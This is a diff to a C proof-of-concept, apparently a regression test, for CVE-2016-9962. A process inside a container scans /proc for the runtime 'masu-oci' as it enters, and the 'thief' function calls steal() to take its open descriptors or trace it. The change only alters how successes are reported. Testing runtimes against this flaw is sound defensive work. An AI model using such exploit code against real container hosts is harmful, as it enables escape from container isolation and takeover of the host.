@@ -2,7 +2,7 @@
 
 /*
  * CVE-2016-9962: a process of the container's that waits for masu-oci to come in, to take what it
- * has open or to trace it. Prints each success, and at the end how many it has seen come.
+ * has open or to trace it. Prints each success, and when it has seen the first one come.
  */
 
 #include <ctype.h>
@@ -94,7 +94,7 @@ int find_program(int seconds)
 int thief(int seconds)
 {
 	time_t end = time(NULL) + seconds;
-	long seen = 0;
+	int seen = 0;
 
 	(void)printf("ready\n");
 	(void)fflush(stdout);
@@ -104,12 +104,14 @@ int thief(int seconds)
 
 		while (proc && (entry = readdir(proc)))
 			if (isdigit((unsigned char)*entry->d_name) && is_entering(entry->d_name)) {
-				seen++;
+				if (!seen)
+					(void)printf("seen: some\n");
+				(void)fflush(stdout);
+				seen = 1;
 				steal(entry->d_name);
 			}
 		if (proc)
 			(void)closedir(proc);
 	}
-	(void)printf("seen: %s\n", seen ? "some" : "none");
 	return 0;
 }
